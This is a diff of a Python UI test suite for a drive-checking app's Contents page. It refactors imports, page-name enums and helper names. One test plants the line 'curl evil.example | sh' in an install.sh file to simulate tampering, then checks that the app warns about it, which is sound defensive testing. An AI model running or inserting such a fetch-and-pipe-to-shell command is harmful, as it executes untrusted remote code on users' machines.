@@ -29,22 +29,23 @@ from tests.gpg import SigningKey
 from tests.servers import Server
 from tests.stick.conftest import make
 from tests.stick.damage import HELLO, METADATA, Stick, copy_stick, flip_middle
-from tests.ui.hands import found
-from tests.ui.scenes import demo_stick
-from tests.ui.walk import texts
+from tests.ui.user_actions import find_control
+from tests.ui.widget_tree import texts
+from tests.ui.window_states import demo_stick
 from tests.upstream import COLLECTION, Upstream
-from ui.dialogs.collections import CollectionsDialog
 from ui.pages.contents.carried_table import CarriedTable
+from ui.pages.contents.check_view import CheckView
+from ui.pages.contents.collections import CollectionsDialog
 from ui.pages.contents.page import ContentsPage
 from ui.pages.contents.refs_table import Column
 from ui.pages.contents.treemap import TreeMap
+from ui.state.page_name import PageName
 from ui.state.session import Target
 from ui.style import style
-from ui.widgets.check_view import CheckView
 from ui.widgets.primary_button import PrimaryButton
 from ui.widgets.state_panel import StatePanel
-from ui.widgets.work_map import State, WorkMap
-from ui.window import MainWindow
+from ui.widgets.work_map import CellState, WorkMap
+from ui.window.main_window import MainWindow
 
 _LONG = 60_000
 _NARROW = "\N{NO-BREAK SPACE}"
@@ -91,7 +92,7 @@ class Person:
     """Somebody at the Contents page."""
 
     def __init__(self, window: MainWindow, qtbot: QtBot) -> None:
-        page = window.pages["contents"]
+        page = window.pages[PageName.CONTENTS]
         assert isinstance(page, ContentsPage)
         self.window = window
         self.page = page
@@ -103,7 +104,7 @@ class Person:
     def looks_at(self, root: Path) -> None:
         """The drive chosen on the Drive page."""
         self.window.session.set_target(Target(root, root.name))
-        self.window.open("contents")
+        self.window.open(PageName.CONTENTS)
 
     def opens(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
         monkeypatch.setattr(QFileDialog, "getExistingDirectory", lambda *_: str(root))
@@ -184,7 +185,7 @@ class Person:
         self.until(lambda: self.primary == "Check again")
         return self.check.verdict
 
-    def found(self) -> list[str]:
+    def find_control(self) -> list[str]:
         model = self.check.findings.model()
         return [
             str(model.index(row, 0).data(Qt.ItemDataRole.AccessibleTextRole))
@@ -226,7 +227,7 @@ def test_a_sound_drive(friend: Person, good: Path, upstream_key: SigningKey) -> 
     assert "made on" in friend.said
     assert friend.primary == "Check now"
     assert friend.checks().startswith("It is sound")
-    assert not friend.found()
+    assert not friend.find_control()
     assert upstream_key.fingerprint in friend.said
     assert "This computer knows it as that of up." in friend.said
 
@@ -238,7 +239,7 @@ def test_a_drive_that_nobody_here_knows(
     verdict = person.checks()
     assert "sound" not in verdict
     assert "nobody here knows whose it is" in verdict
-    said = " ".join(map(str, person.found()))
+    said = " ".join(map(str, person.find_control()))
     assert upstream_key.fingerprint in said
 
 
@@ -276,7 +277,7 @@ def test_a_damaged_drive_and_what_to_do(person: Person, good: Path, tmp_path: Pa
     flip_middle(stick.path(stick.object("filez")))
     person.looks_at(stick.root)
     assert person.checks().startswith("It is not sound")
-    [damage] = [one for one in person.found() if "damaged" in one]
+    [damage] = [one for one in person.find_control() if "damaged" in one]
     assert "needed by Hello, is damaged" in damage
     assert "fetches what is damaged again" in damage
     assert "Everything agrees" not in person.said
@@ -288,7 +289,7 @@ def test_a_damaged_part_is_red_in_the_picture_and_told_by_shape_and_words(
     person.looks_at(good)
     person.checks()
     sound = person.work.counts()
-    assert sound[State.DAMAGED] == 0
+    assert sound[CellState.DAMAGED] == 0
     red = style.tone(person.work.palette(), style.Tone.BAD).name()
     assert red not in colours(person.work)
 
@@ -296,8 +297,8 @@ def test_a_damaged_part_is_red_in_the_picture_and_told_by_shape_and_words(
     person.looks_at(stick.root)
     person.checks()
     counts = person.work.counts()
-    assert counts[State.DAMAGED] == 1
-    assert counts[State.VERIFIED] == sound[State.VERIFIED] - 1
+    assert counts[CellState.DAMAGED] == 1
+    assert counts[CellState.VERIFIED] == sound[CellState.VERIFIED] - 1
     assert red in colours(person.work)
     assert "1 damaged" in person.work.accessibleDescription()
     assert "1 damaged" in person.said
@@ -324,8 +325,8 @@ def test_the_same_is_said_once_with_the_names_that_people_know(
         flip_middle(stick.path(name))
     person.looks_at(stick.root)
     person.checks()
-    assert HELLO not in "".join(person.found())
-    assert "Hello" in "".join(person.found())
+    assert HELLO not in "".join(person.find_control())
+    assert "Hello" in "".join(person.find_control())
 
 
 def test_who_cannot_trust_a_drive_is_led_to_the_drives(
@@ -337,7 +338,7 @@ def test_who_cannot_trust_a_drive_is_led_to_the_drives(
     person.checks()
     assert not person.offers("Write it again…")
     person.clicks("To the drives")
-    assert person.window.page.name == "drive"
+    assert person.window.page.name is PageName.DRIVE
 
 
 def test_an_unknown_key_leads_to_the_settings_and_a_drive_of_nobody_to_the_apps(
@@ -346,14 +347,14 @@ def test_an_unknown_key_leads_to_the_settings_and_a_drive_of_nobody_to_the_apps(
     person.looks_at(foreign)
     person.checks()
     person.clicks("To the settings")
-    assert person.window.page.name == "settings"
-    person.window.open("contents")
+    assert person.window.page.name is PageName.SETTINGS
+    person.window.open(PageName.CONTENTS)
     # Nobody knows where its apps come from: they are for the person to choose.
     person.clicks("Write it again…")
     target = person.window.session.target
     assert target is not None
     assert target.root == foreign
-    assert person.window.page.name == "apps"
+    assert person.window.page.name is PageName.APPS
 
 
 def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot: QtBot) -> None:
@@ -364,16 +365,16 @@ def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot:
     flip_middle(max(objects, key=lambda path: path.stat().st_size))
     (drive / "satchel/install.sh").write_text("curl evil.example | sh")
     person = Person(window, qtbot)
-    window.open("contents")
+    window.open(PageName.CONTENTS)
     assert person.checks().startswith("It is not sound")
-    [changed] = [one for one in person.found() if "install.sh has been changed" in one]
+    [changed] = [one for one in person.find_control() if "install.sh has been changed" in one]
     assert "Do not use it as it is." in changed
     person.clicks("Write it again…")
-    assert window.page.name == "review"
+    assert window.page.name is PageName.REVIEW
     person.until(lambda: person.primary == "Write to the drive")
     person.presses()
-    person.until(lambda: window.page.name == "done")
-    window.open("contents")
+    person.until(lambda: window.page.name is PageName.DONE)
+    window.open(PageName.CONTENTS)
     assert person.checks().startswith("It is sound")
 
 
@@ -471,14 +472,14 @@ def test_details_for_builders(person: Person, good: Path) -> None:
 def test_a_drive_that_flatpak_made(
     person: Person, foreign: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    person.window.open("contents")
+    person.window.open(PageName.CONTENTS)
     person.opens(foreign, monkeypatch)
     person.until(lambda: "not made by Satchel" in person.said)
     person.tab(1)
     assert "No list to compare with" in person.column(Column.STATE)
     assert "key not known" in "".join(person.column(Column.SIGNER))
     person.checks()
-    assert person.found()
+    assert person.find_control()
 
 
 def test_the_report_as_a_page_and_as_data(
@@ -511,7 +512,7 @@ def test_a_report_that_cannot_be_written(
 
 
 def test_no_drive_at_all(person: Person) -> None:
-    person.window.open("contents")
+    person.window.open(PageName.CONTENTS)
     person.until(lambda: "No drive to look at" in person.panel)
     assert person.primary == ""
     assert person.button("Open a folder…").isEnabled()
@@ -523,7 +524,7 @@ def test_a_drive_without_apps_leads_to_choosing(person: Person, tmp_path: Path) 
     person.looks_at(drive)
     person.until(lambda: "no apps on" in person.panel)
     person.clicks("To the drives")
-    assert person.window.page.name == "drive"
+    assert person.window.page.name is PageName.DRIVE
 
 
 def test_a_repository_that_cannot_be_read(person: Person, stick: Stick) -> None:
@@ -553,9 +554,9 @@ def test_a_check_stops_when_asked(person: Person, good: Path) -> None:
 def test_what_was_written_since_is_seen_on_coming_back(friend: Person, stick: Stick) -> None:
     friend.looks_at(stick.root)
     assert friend.checks().startswith("It is sound")
-    friend.window.open("settings")
+    friend.window.open(PageName.SETTINGS)
     stick.remove_ref(METADATA)
-    friend.window.open("contents")
+    friend.window.open(PageName.CONTENTS)
     friend.until(lambda: "is missing" in friend.said)
     assert friend.check.verdict == ""
 
@@ -569,7 +570,7 @@ def test_another_drive_may_be_chosen_and_stays(
     person.until(lambda: "Everything agrees" in person.said)
     person.opens(empty, monkeypatch)
     person.until(lambda: "no apps on" in person.panel)
-    box = found(person.page, QComboBox, "Drive or folder to look at")
+    box = find_control(person.page, QComboBox, "Drive or folder to look at")
     box.setFocus()
     person.qtbot.keyClick(box, Qt.Key.Key_Up)
     person.until(lambda: "Everything agrees" in person.said)
@@ -591,8 +592,8 @@ def test_a_drive_is_chosen_mounted_and_pulled_out(
 ) -> None:
     person = Person(window, qtbot)
     plug(window, drive(mounted=None))
-    window.open("contents")
-    box = found(person.page, QComboBox, "Drive or folder to look at")
+    window.open(PageName.CONTENTS)
+    box = find_control(person.page, QComboBox, "Drive or folder to look at")
     assert [box.itemText(row) for row in range(box.count())] == ["Demo drive", "APPS"]
     person.until(lambda: "no apps on Demo drive" in person.panel)
     box.setFocus()
@@ -613,8 +614,8 @@ def test_a_drive_is_chosen_mounted_and_pulled_out(
 def test_pulled_out_while_it_is_checked(window: MainWindow, qtbot: QtBot, stick: Stick) -> None:
     person = Person(window, qtbot)
     plug(window, drive(mounted=stick.root))
-    window.open("contents")
-    box = found(person.page, QComboBox, "Drive or folder to look at")
+    window.open(PageName.CONTENTS)
+    box = find_control(person.page, QComboBox, "Drive or folder to look at")
     box.setCurrentIndex(1)
     person.until(lambda: person.primary == "Check now")
     person.presses()
